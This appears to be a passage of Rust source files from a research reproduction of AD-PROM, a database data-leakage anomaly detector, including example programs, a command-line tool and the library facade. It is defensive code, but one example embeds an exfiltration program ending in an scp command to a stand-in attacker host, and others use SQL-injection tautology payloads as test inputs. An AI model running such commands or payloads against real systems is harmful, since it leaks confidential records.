    let cmarkov_engine = DetectionEngine::new(&cmarkov_profile);

    let mut adprom_verdict = Flag::Normal;
    let mut cmarkov_verdict = Flag::Normal;
    let mut source_connection = None;
    for case in attacked.test_cases.iter().take(25) {
        // AD-PROM's collector reports the (re)labeled names...
        let labeled = attacked.run_case(case, &attacked_analysis.site_labels);
        let v = adprom_engine.verdict(&labeled);
        if v > adprom_verdict {
            adprom_verdict = v;
        }
        if source_connection.is_none() {
            source_connection = adprom_engine
                .scan(&labeled)
                .into_iter()
                .find(|a| a.flag == Flag::DataLeak)
                .map(|a| a.detail);
        }
        // ...CMarkov's collector sees raw call names only.
        let raw = adprom::core::strip_trace(&labeled);
        cmarkov_verdict = cmarkov_verdict.max(cmarkov_engine.verdict(&raw));
    }

    println!("AD-PROM verdict:  {adprom_verdict}");
    if let Some(detail) = &source_connection {
        println!("  connected to source: {detail}");
    }
    println!("CMarkov verdict:  {cmarkov_verdict}");

    assert_ne!(
        adprom_verdict,
        Flag::Normal,
        "AD-PROM must catch the reused print"
    );
    println!(
        "\nTable V row 3 reproduced: AD-PROM detects & connects to source; \
         CMarkov reports {cmarkov_verdict} (the raw call sequence is unchanged)."
    );
}
