//! Explaining an alert: ranked forensic reports for the §V-C attack corpus.
//!
//! An alert alone (`flag + log-likelihood`) tells a security officer that a
//! session deviated, not *where*. With the flight recorder armed, every
//! alarm's audit record carries a [`ForensicReport`]: the top-k most
//! deviant call transitions of the alerted window (exact factors of the
//! same forward pass that scored it — no second scoring run) plus the
//! session's recent window-score series, so a triage decision can be made
//! from the record alone.
//!
//! This walkthrough profiles the banking and hospital applications, replays
//! the §V-C attack mutants (plus the SQL-injection input) through a
//! forensics-armed [`MonitorRuntime`], and prints each attack family's
//! worst window with its ranked attribution and delta-vs-threshold tail.
//!
//! ```text
//! cargo run --release --example explain_alert
//! ```
//!
//! [`ForensicReport`]: adprom::obs::ForensicReport
//! [`MonitorRuntime`]: adprom::core::MonitorRuntime

use adprom::analysis::analyze;
use adprom::attacks::{
    attack1_insert_similar_print, attack2_new_call_in_function, attack3_reuse_print,
    attack4_binary_patch, AttackOutcome,
};
use adprom::core::{
    build_profile, ConstructorConfig, ForensicsConfig, MonitorRuntime, ProfileRegistry,
};
use adprom::obs::{AuditLog, AuditRecord, MemoryAuditSink};
use adprom::trace::{interleave, CallEvent};
use adprom::workloads::{banking, hospital, Workload};
use std::collections::BTreeMap;
use std::sync::Arc;

fn main() {
    // 1. Training phase, per application: analyze → trace → build_profile.
    let apps: Vec<(&str, Workload)> = vec![
        ("banking", banking::workload(20, 0x7AB1)),
        ("hospital", hospital::workload(20, 9)),
    ];
    let profiles = ProfileRegistry::new();
    let mut analyses = Vec::new();
    for (name, workload) in &apps {
        let analysis = analyze(&workload.program);
        let traces = workload.collect_traces(&analysis.site_labels);
        let (profile, _) = build_profile(
            &format!("App_{name}"),
            &analysis,
            &traces,
            &ConstructorConfig::default(),
        );
        println!(
            "{name:<9} profile: {} states, threshold {:.2}",
            profile.hmm.n_states(),
            profile.threshold
        );
        profiles.register(name, profile).expect("profile validates");
        analyses.push(analysis);
    }

    // 2. The attack corpus: each §V-C mutator that finds a target in an
    //    app contributes one family of attacked sessions; attack 5 is a
    //    malicious input on the unmodified banking binary.
    let mut sessions: Vec<(String, String, Vec<CallEvent>)> = Vec::new();
    for (name, workload) in &apps {
        let query = "SELECT * FROM clients";
        let mutants: Vec<(&str, Option<AttackOutcome>)> = vec![
            ("attack1", attack1_insert_similar_print(&workload.program)),
            (
                "attack2",
                attack2_new_call_in_function(&workload.program, query),
            ),
            ("attack3", attack3_reuse_print(&workload.program)),
            ("attack4", attack4_binary_patch(&workload.program, query)),
        ];
        for (attack, outcome) in mutants {
            let Some(outcome) = outcome else { continue };
            let attacked = Workload {
                name: workload.name.clone(),
                dbms: workload.dbms,
                program: outcome.program,
                make_db: workload.make_db,
                test_cases: workload.test_cases.clone(),
            };
            // Detection-time instrumentation re-analyzes the mutant.
            let attacked_analysis = analyze(&attacked.program);
            for (i, case) in attacked.test_cases.iter().take(3).enumerate() {
                let trace = attacked.run_case(case, &attacked_analysis.site_labels);
                sessions.push((name.to_string(), format!("{name}/{attack}#{i}"), trace));
            }
        }
    }
    let banking_analysis = &analyses[0];
    let injected = apps[0]
        .1
        .run_case(&banking::injection_case(), &banking_analysis.site_labels);
    sessions.push(("banking".into(), "banking/attack5#0".into(), injected));

    // 3. Detection phase: the interleaved attack stream through a
    //    forensics-armed runtime with the audit log attached. Reports are
    //    built only when a session alarms — the benign path stays
    //    allocation-free — and land on the alarm's audit record.
    let sink = Arc::new(MemoryAuditSink::new());
    let mut runtime = MonitorRuntime::new(Arc::new(profiles))
        .with_forensics(ForensicsConfig::default())
        .with_audit(Arc::new(AuditLog::new(sink.clone())));
    let stream = interleave(&sessions, 0xF0CE);
    runtime.ingest_stream(&stream);
    runtime.finish();

    let records = sink.records();
    assert!(
        records.iter().all(|r| r.forensics.is_some()),
        "every alarm audit record carries a ForensicReport"
    );
    println!(
        "\n{} attacked sessions → {} alarm records, every one with forensics attached\n",
        sessions.len(),
        records.len()
    );

    // 4. Triage view: per attack family, the worst window's ranked
    //    attribution and the flight recorder's delta-vs-threshold tail.
    let mut by_family: BTreeMap<&str, Vec<&AuditRecord>> = BTreeMap::new();
    for record in &records {
        let family = record.session.split('#').next().unwrap_or(&record.session);
        by_family.entry(family).or_default().push(record);
    }
    for (family, group) in &by_family {
        let worst = group
            .iter()
            .min_by(|a, b| {
                (a.log_likelihood - a.threshold).total_cmp(&(b.log_likelihood - b.threshold))
            })
            .expect("family groups are non-empty");
        let report = worst.forensics.as_ref().expect("asserted above");
        println!(
            "== {family} — {} alarm(s); worst: window {} flagged {} (delta {:+.2}) ==",
            group.len(),
            report.window_index,
            worst.flag,
            report.alert_delta().unwrap_or(f64::NAN),
        );
        println!("   most deviant transitions (exact factors of the window's score):");
        for t in report.top_deviant.iter().take(3) {
            println!(
                "     step {:<2} {:>18} -> {:<18} log_prob {:7.3}  deficit {:+7.3}",
                t.step,
                t.from.as_deref().unwrap_or("<pi>"),
                t.call,
                t.log_prob,
                t.deficit,
            );
        }
        let tail: Vec<String> = report
            .recent_windows
            .iter()
            .map(|w| format!("{:+.1}", w.delta))
            .collect();
        println!(
            "   recent window deltas (oldest first): [{}]\n",
            tail.join(", ")
        );
    }
    println!(
        "Each record round-trips through the JSONL audit trail, e.g.:\n{}",
        records[0].to_jsonl()
    );
}
