//! Quickstart: profile the hospital client application and monitor it.
//!
//! ```text
//! cargo run --release --example quickstart
//! ```
//!
//! Walks the full AD-PROM lifecycle: static analysis → trace collection →
//! profile construction → detection, then shows the detector flagging a
//! source-level modification (attack 1 of §V-C).

use adprom::analysis::analyze;
use adprom::attacks::attack1_insert_similar_print;
use adprom::core::{build_profile, ConstructorConfig, DetectionEngine, Flag};
use adprom::workloads::hospital;

fn main() {
    // ---- Training phase -------------------------------------------------
    println!("== AD-PROM quickstart: App_h (hospital client) ==\n");
    let workload = hospital::workload(30, 7);

    println!("[1/4] static analysis (CFG + CG + DDG + probability forecast)");
    let analysis = analyze(&workload.program);
    println!(
        "      {} functions, {} observation labels, {} DDG-labeled output sites",
        analysis.cfgs.len(),
        analysis.observation_labels().len(),
        analysis
            .site_labels
            .values()
            .filter(|l| l.contains("_Q"))
            .count()
    );

    println!(
        "[2/4] collecting traces from {} test cases",
        workload.test_cases.len()
    );
    let traces = workload.collect_traces(&analysis.site_labels);
    let calls: usize = traces.iter().map(Vec::len).sum();
    println!("      {calls} library calls intercepted");

    println!("[3/4] building the profile (pCTM-initialized HMM + Baum-Welch)");
    let (profile, report) =
        build_profile("App_h", &analysis, &traces, &ConstructorConfig::default());
    println!(
        "      {} windows ({} CSDS), {} hidden states, threshold {:.2}, profile {} bytes",
        report.total_windows,
        report.csds_windows,
        profile.hmm.n_states(),
        profile.threshold,
        profile.serialized_size().expect("profile serializes")
    );

    // ---- Detection phase -------------------------------------------------
    println!("[4/4] detection");
    let engine = DetectionEngine::new(&profile);

    // Normal run: no alarms expected.
    let normal = workload.run_case(&workload.test_cases[0], &analysis.site_labels);
    let alarms = engine
        .scan(&normal)
        .into_iter()
        .filter(|a| a.is_alarm())
        .count();
    println!(
        "      normal run: {alarms} alarm(s) over {} calls",
        normal.len()
    );

    // Attacked binary: clone a print into the opposite branch (attack 1).
    let attack =
        attack1_insert_similar_print(&workload.program).expect("App_h has a branch print to clone");
    println!("\n      {}", attack.description);
    // The detection-phase instrumenter re-analyzes the *running* binary.
    let attacked_analysis = analyze(&attack.program);
    let attacked_workload = adprom::workloads::Workload {
        program: attack.program,
        ..adprom::workloads::Workload {
            name: workload.name.clone(),
            dbms: workload.dbms,
            program: adprom::lang::Program::new(vec![], 0),
            make_db: hospital::make_db,
            test_cases: workload.test_cases.clone(),
        }
    };
    let mut worst = Flag::Normal;
    for case in &attacked_workload.test_cases {
        let trace = attacked_workload.run_case(case, &attacked_analysis.site_labels);
        worst = worst.max(engine.verdict(&trace));
    }
    println!("      attacked binary verdict: {worst}");
    assert_ne!(worst, Flag::Normal, "the modification must be detected");
    println!("\nDone: the modified application was flagged; the original was not.");
}
