//! The §VII evasions and their mitigations.
//!
//! The paper is candid about two attacks its core system cannot see:
//!
//! 1. a rewritten query with the *same selectivity* (the call sequence is
//!    unchanged), and
//! 2. storing the TD to a file and sending the file out later.
//!
//! It sketches the fixes — record query signatures, label TD-bearing files
//! — and this example demonstrates both, implemented as monitors over the
//! extended event stream.
//!
//! ```text
//! cargo run --release --example evasion_mitigations
//! ```

use adprom::analysis::analyze;
use adprom::client::ClientSession;
use adprom::core::{
    build_profile, ConstructorConfig, DetectionEngine, FileLabelMonitor, QuerySignatureMonitor,
};
use adprom::lang::parse_program;
use adprom::trace::{run_program, ExecConfig, TraceCollector};
use adprom::workloads::{banking, TestCase};

fn main() {
    let config = ExecConfig {
        extended_events: true,
        ..ExecConfig::default()
    };

    // ---- Evasion 1: selectivity mimicry --------------------------------
    println!("== evasion 1: same-selectivity query rewrite ==\n");
    let workload = banking::workload(40, 77);
    let analysis = analyze(&workload.program);
    let traces: Vec<_> = workload
        .test_cases
        .iter()
        .map(|case| {
            let mut session = ClientSession::connect((workload.make_db)());
            let mut collector = TraceCollector::new();
            run_program(
                &workload.program,
                &mut session,
                &case.inputs,
                &analysis.site_labels,
                &mut collector,
                &config,
            )
            .expect("training case runs");
            collector.into_events()
        })
        .collect();
    let (profile, _) = build_profile("App_b", &analysis, &traces, &ConstructorConfig::default());
    let engine = DetectionEngine::new(&profile);
    let signatures = QuerySignatureMonitor::learn(&traces);
    println!(
        "learned {} query signatures from training",
        signatures.len()
    );

    // `105' AND '1'='1` returns exactly one row — same call sequence as a
    // benign lookup.
    let mimic = TestCase::new(
        "mimicry",
        vec!["1".into(), "105' AND '1'='1".into(), "0".into()],
    );
    let mut session = ClientSession::connect((workload.make_db)());
    let mut collector = TraceCollector::new();
    run_program(
        &workload.program,
        &mut session,
        &mimic.inputs,
        &analysis.site_labels,
        &mut collector,
        &config,
    )
    .expect("mimicry case runs");
    let trace = collector.into_events();

    println!("base detector verdict:     {}", engine.verdict(&trace));
    let alerts = signatures.scan(&trace);
    println!("signature monitor alerts:  {}", alerts.len());
    for a in &alerts {
        println!("  unseen signature from `{}`: {}", a.caller, a.subject);
    }
    assert!(!alerts.is_empty());

    // ---- Evasion 2: file-then-network exfiltration ---------------------
    println!("\n== evasion 2: store the TD to a file, ship the file ==\n");
    let exfil = parse_program(
        r#"
        fn main() {
            let r = PQexec(conn, "SELECT * FROM clients");
            let n = PQntuples(r);
            let f = fopen("backup.dat", "w");
            for (let i = 0; i < n; i = i + 1) {
                fprintf(f, "%s\n", PQgetvalue(r, i, 1));
            }
            fclose(f);
            system("scp backup.dat drop@evil.example:/loot/");
        }
        "#,
    )
    .expect("parses");
    let exfil_analysis = analyze(&exfil);
    let mut session = ClientSession::connect(banking::make_db());
    let mut collector = TraceCollector::new();
    run_program(
        &exfil,
        &mut session,
        &[],
        &exfil_analysis.site_labels,
        &mut collector,
        &config,
    )
    .expect("exfiltration program runs");

    let mut files = FileLabelMonitor::new();
    files.scan(collector.events());
    println!(
        "labeled files: {:?}",
        files.labeled_files().collect::<Vec<_>>()
    );
    for a in files.alerts() {
        println!(
            "ALERT [{:?}] `{}` touched a labeled file: {}",
            a.kind, a.call, a.subject
        );
    }
    assert_eq!(files.alerts().len(), 1);
    println!("\nDone: both §VII evasions are caught by the extension monitors.");
}
