//! Multi-application monitoring: three applications' sessions multiplexed
//! through one [`MonitorRuntime`].
//!
//! The paper profiles each application program in isolation; a deployed
//! monitor sits in front of the DBMS and sees *every* application's
//! sessions interleaved on one wire. This example builds profiles for the
//! three CA-dataset workloads (banking, supermarket, hospital), registers
//! them in a [`ProfileRegistry`], and feeds an interleaved event stream to
//! the session-multiplexed runtime — including a mid-stream profile
//! hot-swap, which only affects sessions opened after the swap (in-flight
//! sessions stay pinned to the epoch they started on).
//!
//! ```text
//! cargo run --release --example multi_app_monitoring
//! ```

use adprom::analysis::analyze;
use adprom::core::{
    build_profile, ConstructorConfig, MonitorRuntime, ProfileRegistry, RuntimeConfig, ScoringMode,
};
use adprom::obs::Registry;
use adprom::trace::{interleave, CallEvent};
use adprom::workloads::{banking, hospital, supermarket, Workload};
use std::sync::Arc;

/// A named CA-dataset workload generator.
type AppBuild = (&'static str, fn(usize, u64) -> Workload);

fn main() {
    // 1. Profile each application exactly as the single-app pipeline
    //    would: analyze → trace → build_profile.
    let builds: [AppBuild; 3] = [
        ("banking", banking::workload),
        ("supermarket", supermarket::workload),
        ("hospital", hospital::workload),
    ];
    let registry = ProfileRegistry::new();
    let mut sessions: Vec<(String, String, Vec<CallEvent>)> = Vec::new();
    for (i, (name, make)) in builds.iter().enumerate() {
        let workload = make(12, 9 + i as u64);
        let analysis = analyze(&workload.program);
        let traces = workload.collect_traces(&analysis.site_labels);
        let (profile, _) = build_profile(
            &format!("App_{name}"),
            &analysis,
            &traces,
            &ConstructorConfig::default(),
        );
        println!(
            "{name:<12} profile: {} states, {} symbols, threshold {:.2}",
            profile.hmm.n_states(),
            profile.alphabet.len(),
            profile.threshold
        );
        registry
            .register(name, profile)
            .expect("trained profile validates");
        for (s, trace) in traces.iter().enumerate() {
            sessions.push((name.to_string(), format!("{name}-{s}"), trace.clone()));
        }
    }

    // 2. One interleaved wire: events from all sessions shuffled together,
    //    each tagged (app, session). Three banking sessions are held back
    //    so they first appear after the mid-stream hot-swap below.
    let late: Vec<(String, String, Vec<CallEvent>)> = sessions
        .iter()
        .filter(|(app, session, _)| {
            app == "banking"
                && session
                    .strip_prefix("banking-")
                    .and_then(|i| i.parse::<usize>().ok())
                    .is_some_and(|i| i >= 9)
        })
        .cloned()
        .collect();
    sessions.retain(|entry| !late.contains(entry));
    let stream = interleave(&sessions, 0xCA11);
    let late_stream = interleave(&late, 0xCA12);
    println!(
        "\n{} sessions across {} apps → {} interleaved events ({} arriving post-swap)\n",
        sessions.len() + late.len(),
        builds.len(),
        stream.len() + late_stream.len(),
        late_stream.len(),
    );

    // 3. Multiplex through the runtime; flush batches of 256 buffered
    //    events across the worker pool as the stream arrives.
    let profiles = Arc::new(registry);
    let obs = Registry::new();
    let mut runtime = MonitorRuntime::new(Arc::clone(&profiles))
        .with_config(RuntimeConfig {
            mode: ScoringMode::Incremental,
            queue_capacity: 256,
            ..RuntimeConfig::default()
        })
        .with_registry(&obs);

    // Feed the main stream, then hot-swap the banking profile to a
    // stricter threshold. Sessions already open keep scoring on epoch 1;
    // the held-back banking sessions arriving afterwards pin epoch 2.
    runtime.ingest_stream(&stream);
    let mut strict = profiles
        .current("banking")
        .expect("registered")
        .profile()
        .as_ref()
        .clone();
    strict.threshold += 1.0;
    profiles
        .register("banking", strict)
        .expect("swap validates before publishing");
    runtime.ingest_stream(&late_stream);
    let reports = runtime.finish();

    // 4. Per-app roll-up. Every report carries the epoch its session was
    //    pinned to, so the swap is visible in the output.
    for (name, _) in &builds {
        let mine: Vec<_> = reports.iter().filter(|r| r.app == *name).collect();
        let alarms: usize = mine.iter().map(|r| r.alarms().count()).sum();
        let epochs: (usize, usize) = mine.iter().fold((0, 0), |(e1, e2), r| {
            if r.epoch >= 2 {
                (e1, e2 + 1)
            } else {
                (e1 + 1, e2)
            }
        });
        println!(
            "{name:<12} {} sessions ({} on epoch 1, {} on epoch 2), {alarms} alarm(s)",
            mine.len(),
            epochs.0,
            epochs.1,
        );
    }

    let snap = obs.snapshot();
    println!(
        "\nmonitor: {} opened, {} finished, {} flushes, {} epoch-pinned events",
        snap.counter("monitor.sessions.opened").unwrap_or(0),
        snap.counter("monitor.sessions.finished").unwrap_or(0),
        snap.counter("monitor.flushes").unwrap_or(0),
        snap.counter("monitor.epoch_pins").unwrap_or(0),
    );
}
