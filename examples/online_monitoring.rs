//! Online monitoring: the Detection Engine as a streaming call sink.
//!
//! Instead of scanning traces after the fact, the [`OnlineDetector`] plugs
//! into the interpreter as the Calls Collector itself: every library call
//! slides the n-window forward and is scored immediately (§IV-D — "the
//! sequence includes the last call and the n−1 past calls").
//!
//! ```text
//! cargo run --release --example online_monitoring
//! ```

use adprom::analysis::analyze;
use adprom::client::ClientSession;
use adprom::core::{build_profile, ConstructorConfig, OnlineDetector};
use adprom::trace::{run_program, ExecConfig};
use adprom::workloads::supermarket;

fn main() {
    println!("== online monitoring: App_s (supermarket) ==\n");
    let workload = supermarket::workload(30, 5);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let (profile, report) =
        build_profile("App_s", &analysis, &traces, &ConstructorConfig::default());
    println!(
        "profile ready: {} states, {} symbols, threshold {:.2}\n",
        profile.hmm.n_states(),
        profile.alphabet.len(),
        profile.threshold
    );
    let _ = report;

    // A cash-register session streamed through the detector: browse, two
    // sales, a restock, then the register closes.
    let inputs: Vec<String> = ["1", "3", "500", "2", "3", "505", "1", "4", "501", "9", "0"]
        .iter()
        .map(|s| s.to_string())
        .collect();

    let mut detector = OnlineDetector::new(profile);
    let mut session = ClientSession::connect((workload.make_db)());
    run_program(
        &workload.program,
        &mut session,
        &inputs,
        &analysis.site_labels,
        &mut detector,
        &ExecConfig::default(),
    )
    .expect("session runs");

    let windows = detector.alerts().len();
    let alarms = detector.alarms();
    println!(
        "streamed session: {windows} windows scored, {} alarm(s)",
        alarms.len()
    );
    for a in alarms.iter().take(3) {
        println!("  [{}] ll={:.2} {}", a.flag, a.log_likelihood, a.detail);
    }
    println!("\nDone: live monitoring adds one window score per call.");
}
