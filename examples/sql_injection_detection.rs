//! SQL-injection (attack 5, Fig. 2): the banking app's `lookup_client`
//! builds its query by string concatenation. The tautology payload
//! `1' OR '1'='1` retrieves every client record, which multiplies the
//! `(mysql_fetch_row, printf)` pairs in the call sequence — AD-PROM flags
//! the run without ever seeing the query text.
//!
//! ```text
//! cargo run --release --example sql_injection_detection
//! ```

use adprom::analysis::analyze;
use adprom::core::{build_profile, ConstructorConfig, DetectionEngine, Flag};
use adprom::workloads::banking;
use adprom::workloads::TestCase;

fn main() {
    println!("== SQL-injection detection on App_b (banking) ==\n");
    let workload = banking::workload(40, 11);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let (profile, _) = build_profile("App_b", &analysis, &traces, &ConstructorConfig::default());
    let engine = DetectionEngine::new(&profile);

    // A benign lookup of account 105.
    let benign = TestCase::new("benign", vec!["1".into(), "105".into(), "0".into()]);
    let benign_trace = workload.run_case(&benign, &analysis.site_labels);
    let fetches = |t: &[adprom::trace::CallEvent]| {
        t.iter()
            .filter(|e| e.name.starts_with("mysql_fetch_row"))
            .count()
    };
    println!(
        "benign lookup:   {:3} calls, {:2} fetch_row, verdict {}",
        benign_trace.len(),
        fetches(&benign_trace),
        engine.verdict(&benign_trace)
    );

    // The injection. Same code path; malicious input only.
    let attack_trace = workload.run_case(&banking::injection_case(), &analysis.site_labels);
    let verdict = engine.verdict(&attack_trace);
    println!(
        "injected lookup: {:3} calls, {:2} fetch_row, verdict {}",
        attack_trace.len(),
        fetches(&attack_trace),
        verdict
    );

    // Show the alert the security admin would see.
    let alert = engine
        .scan(&attack_trace)
        .into_iter()
        .filter(|a| a.is_alarm())
        .max_by(|a, b| a.flag.cmp(&b.flag))
        .expect("the injection raises at least one alarm");
    println!("\nfirst alert: [{}] {}", alert.flag, alert.detail);
    println!(
        "window: {} (log-likelihood {:.2} < threshold {:.2})",
        alert.window.join(" → "),
        alert.log_likelihood,
        alert.threshold
    );

    assert_ne!(verdict, Flag::Normal);
    println!("\nDone: the tautology injection was flagged as {verdict}.");
}
