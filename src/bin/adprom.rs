//! `adprom` — command-line front-end to the AD-PROM pipeline.
//!
//! ```text
//! adprom analyze  <app.dsl>
//!     Static analysis: functions, CFG sizes, DDG-labeled sites, pCTM.
//!
//! adprom train    <app.dsl> --db <seed.sql> --cases <cases.txt> --out <profile.json>
//!     Runs every test case, collects labeled traces, trains the HMM and
//!     writes the profile. A case file holds one test case per line:
//!     whitespace-separated stdin tokens.
//!
//! adprom detect   <app.dsl> --db <seed.sql> --profile <profile.json> --input <tok> [--input <tok> ...]
//!     Runs the (possibly modified) program with the given stdin tokens and
//!     reports the detection verdict and alerts.
//!
//! adprom signature "<sql>"
//!     Prints the normalized query signature (§VII extension).
//! ```

use adprom::analysis::analyze;
use adprom::client::ClientSession;
use adprom::core::{build_profile, ConstructorConfig, DetectionEngine, Profile};
use adprom::db::Database;
use adprom::lang::{parse_program, validate, Program};
use adprom::trace::{run_program, ExecConfig, TraceCollector};
use std::path::Path;
use std::process::ExitCode;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let result = match args.first().map(String::as_str) {
        Some("analyze") => cmd_analyze(&args[1..]),
        Some("train") => cmd_train(&args[1..]),
        Some("detect") => cmd_detect(&args[1..]),
        Some("signature") => cmd_signature(&args[1..]),
        _ => {
            eprintln!(
                "usage: adprom <analyze|train|detect|signature> ... (see --help in the README)"
            );
            return ExitCode::from(2);
        }
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(msg) => {
            eprintln!("error: {msg}");
            ExitCode::FAILURE
        }
    }
}

fn load_program(path: &str) -> Result<Program, String> {
    let src = std::fs::read_to_string(path).map_err(|e| format!("reading {path}: {e}"))?;
    let prog = parse_program(&src).map_err(|e| format!("{path}: {e}"))?;
    let problems = validate(&prog);
    if !problems.is_empty() {
        return Err(format!("{path}: {}", problems[0]));
    }
    Ok(prog)
}

fn load_db(path: Option<&String>) -> Result<Database, String> {
    let mut db = Database::new("cli");
    if let Some(path) = path {
        let sql = std::fs::read_to_string(path).map_err(|e| format!("reading {path}: {e}"))?;
        for stmt in sql.split(';') {
            let stmt = stmt.trim();
            if stmt.is_empty() || stmt.starts_with("--") {
                continue;
            }
            db.execute(stmt)
                .map_err(|e| format!("seed statement `{stmt}`: {e}"))?;
        }
    }
    Ok(db)
}

fn flag_value<'a>(args: &'a [String], name: &str) -> Option<&'a String> {
    args.iter()
        .position(|a| a == name)
        .and_then(|i| args.get(i + 1))
}

fn flag_values<'a>(args: &'a [String], name: &str) -> Vec<&'a String> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        if args[i] == name {
            if let Some(v) = args.get(i + 1) {
                out.push(v);
                i += 1;
            }
        }
        i += 1;
    }
    out
}

fn cmd_analyze(args: &[String]) -> Result<(), String> {
    let path = args.first().ok_or("analyze: missing <app.dsl>")?;
    let prog = load_program(path)?;
    let analysis = analyze(&prog);
    println!("program: {path}");
    println!("functions: {}", prog.functions.len());
    for (f, cfg) in prog.functions.iter().zip(&analysis.cfgs) {
        println!(
            "  {:24} {:3} CFG nodes, {:2} call sites",
            f.name,
            cfg.nodes.len(),
            cfg.call_nodes().count()
        );
    }
    let labeled: Vec<&String> = analysis
        .site_labels
        .values()
        .filter(|l| l.contains("_Q"))
        .collect();
    println!(
        "observation labels: {}",
        analysis.observation_labels().len()
    );
    println!("DDG-labeled output sites: {}", labeled.len());
    for l in labeled {
        println!("  {l}");
    }
    println!(
        "pCTM: {} labels; entry-row sum {:.6}, exit-col sum {:.6}",
        analysis.pctm.dim(),
        analysis.pctm.entry_row_sum(),
        analysis.pctm.exit_col_sum()
    );
    println!(
        "timings: cfg {:?}, probabilities {:?}, aggregation {:?}",
        analysis.timings.build_cfg, analysis.timings.probabilities, analysis.timings.aggregation
    );
    Ok(())
}

fn load_cases(path: &str) -> Result<Vec<Vec<String>>, String> {
    let text = std::fs::read_to_string(path).map_err(|e| format!("reading {path}: {e}"))?;
    Ok(text
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(|l| l.split_whitespace().map(str::to_string).collect())
        .collect())
}

fn cmd_train(args: &[String]) -> Result<(), String> {
    let path = args.first().ok_or("train: missing <app.dsl>")?;
    let cases_path = flag_value(args, "--cases").ok_or("train: missing --cases <file>")?;
    let out_path = flag_value(args, "--out").ok_or("train: missing --out <profile.json>")?;
    let db_path = flag_value(args, "--db");

    let prog = load_program(path)?;
    let analysis = analyze(&prog);
    let cases = load_cases(cases_path)?;
    if cases.is_empty() {
        return Err("train: case file is empty".into());
    }

    println!("collecting {} traces...", cases.len());
    let mut traces = Vec::with_capacity(cases.len());
    for inputs in &cases {
        let db = load_db(db_path)?;
        let mut session = ClientSession::connect(db);
        let mut collector = TraceCollector::new();
        run_program(
            &prog,
            &mut session,
            inputs,
            &analysis.site_labels,
            &mut collector,
            &ExecConfig::default(),
        )
        .map_err(|e| format!("running case `{}`: {e}", inputs.join(" ")))?;
        traces.push(collector.into_events());
    }

    println!("training...");
    let (profile, report) = build_profile(path, &analysis, &traces, &ConstructorConfig::default());
    println!(
        "{} windows ({} CSDS), {} states, {} iterations, threshold {:.3}",
        report.total_windows,
        report.csds_windows,
        profile.hmm.n_states(),
        report.train_report.iterations,
        profile.threshold
    );
    profile
        .save(Path::new(out_path))
        .map_err(|e| format!("writing {out_path}: {e}"))?;
    let size = profile
        .serialized_size()
        .map_err(|e| format!("sizing profile: {e}"))?;
    println!(
        "profile written to {out_path} ({:.1} kB)",
        size as f64 / 1024.0
    );
    Ok(())
}

fn cmd_detect(args: &[String]) -> Result<(), String> {
    let path = args.first().ok_or("detect: missing <app.dsl>")?;
    let profile_path =
        flag_value(args, "--profile").ok_or("detect: missing --profile <profile.json>")?;
    let db_path = flag_value(args, "--db");
    let inputs: Vec<String> = flag_values(args, "--input").into_iter().cloned().collect();

    let prog = load_program(path)?;
    // Detection-time instrumentation: labels come from the *current* binary.
    let analysis = analyze(&prog);
    let profile =
        Profile::load(Path::new(profile_path)).map_err(|e| format!("loading profile: {e}"))?;

    let db = load_db(db_path)?;
    let mut session = ClientSession::connect(db);
    let mut collector = TraceCollector::new();
    run_program(
        &prog,
        &mut session,
        &inputs,
        &analysis.site_labels,
        &mut collector,
        &ExecConfig::default(),
    )
    .map_err(|e| format!("running program: {e}"))?;

    let engine = DetectionEngine::new(&profile);
    let alerts = engine.scan(collector.events());
    let alarms: Vec<_> = alerts.iter().filter(|a| a.is_alarm()).collect();
    println!(
        "{} calls, {} windows scored, {} alarm(s)",
        collector.len(),
        alerts.len(),
        alarms.len()
    );
    for a in alarms.iter().take(10) {
        println!(
            "[{}] ll={:.2} (threshold {:.2}) {}",
            a.flag, a.log_likelihood, a.threshold, a.detail
        );
    }
    println!("verdict: {}", engine.verdict(collector.events()));
    Ok(())
}

fn cmd_signature(args: &[String]) -> Result<(), String> {
    let sql = args.first().ok_or("signature: missing \"<sql>\"")?;
    println!("{}", adprom::db::query_signature(sql));
    Ok(())
}
