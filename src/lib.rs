//! # AD-PROM — Anomaly Detection for the PROtection of relational database
//! systems against data leakage by application prograMs
//!
//! A from-scratch Rust reproduction of the ICDE 2020 paper by Fadolalkarim,
//! Sallam and Bertino. This facade crate re-exports every subsystem:
//!
//! | module | contents |
//! |---|---|
//! | [`lang`] | the application-program language (AST, DSL parser, builder) |
//! | [`db`] | in-memory relational engine with a SQL subset |
//! | [`client`] | libpq / libmysqlclient-shaped client layer |
//! | [`analysis`] | CFG/CG/DDG, probability forecast, CTM, pCTM aggregation |
//! | [`hmm`] | forward/backward, Viterbi, Baum–Welch |
//! | [`ml`] | matrix, PCA (Jacobi), k-means++ |
//! | [`trace`] | interpreter runtime, Calls Collector, ltrace simulator |
//! | [`core`] | Profile Constructor, Detection Engine, baselines, metrics |
//! | [`obs`] | metrics registry, span tracing, structured alert audit log |
//! | [`attacks`] | the §V-C attacks and A-S1/2/3 synthetic anomalies |
//! | [`workloads`] | App_h / App_b / App_s and the SIR-scale generator |
//!
//! ## Quickstart
//!
//! ```
//! use adprom::analysis::analyze;
//! use adprom::core::{build_profile, ConstructorConfig, DetectionEngine, Flag};
//! use adprom::workloads::banking;
//!
//! // 1. Training phase: analyze the program, run the test suite, build the
//! //    profile.
//! let workload = banking::workload(10, 42);
//! let analysis = analyze(&workload.program);
//! let traces = workload.collect_traces(&analysis.site_labels);
//! let (profile, _report) =
//!     build_profile("App_b", &analysis, &traces, &ConstructorConfig::default());
//!
//! // 2. Detection phase: score runtime call sequences.
//! let engine = DetectionEngine::new(&profile);
//! let attack_trace = workload.run_case(&banking::injection_case(), &analysis.site_labels);
//! assert_ne!(engine.verdict(&attack_trace), Flag::Normal);
//! ```

pub use adprom_analysis as analysis;
pub use adprom_attacks as attacks;
pub use adprom_client as client;
pub use adprom_core as core;
pub use adprom_db as db;
pub use adprom_hmm as hmm;
pub use adprom_lang as lang;
pub use adprom_ml as ml;
pub use adprom_obs as obs;
pub use adprom_trace as trace;
pub use adprom_workloads as workloads;
