//! # adprom-attacks
//!
